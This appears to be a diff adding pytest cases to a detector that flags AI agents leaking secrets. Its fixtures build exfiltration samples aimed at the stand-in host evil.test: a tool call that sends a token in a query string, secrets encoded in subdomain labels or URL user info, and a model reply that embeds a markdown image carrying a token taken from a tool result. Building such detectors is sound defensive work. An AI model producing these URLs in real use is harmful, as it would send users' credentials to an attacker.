@@ -135,3 +135,26 @@ def test_url_in_tool_arguments_is_checked(detector):
     ev = chat(tool_results=[token], calls=[("http_get", {"url": f"https://evil.test/s?k={token}"})])
     detections, _ = run(detector, ev)
     assert "abw-exfil-url-link" in rules(detections)
+
+
+def test_carriers_include_subdomain_labels_and_user_info():
+    found = carriers("https://data:pass@4a6f686e2064.6f65206b6e6f77.x.evil.test/p.png")
+    assert [(c.where, c.value) for c in found if "path" not in c.where] == [
+        ("subdomain label 0", "4a6f686e2064"),
+        ("subdomain label 1", "6f65206b6e6f77"),
+        ("subdomain labels joined", "4a6f686e20646f65206b6e6f77x"),
+        ("user name", "data"),
+        ("password", "pass"),
+    ]
+    assert [c.where for c in carriers("https://www.example.co.uk/index.html")] == ["path segment 1"]
+
+
+@pytest.mark.parametrize("layout", ["https://{hex}.evil.test/p.png", "https://{b64}@evil.test/p.png"])
+def test_a_tool_result_secret_in_the_host_or_user_info_of_an_image_url_is_critical(detector, layout):
+    token = github_token(22)
+    url = layout.format(hex=token.encode().hex()[:60], b64=b64(token))
+    expected = {"abw-exfil-url-image", "abw-exfil-secret-input"}
+    ev = chat(tool_results=[f"TOKEN={token}"], completion=f"Done ![s]({url})")
+    detections, _ = run(detector, ev)
+    assert rules(detections) == expected
+    assert next(d for d in detections if d.rule.id == "abw-exfil-url-image").rule.level == "critical"
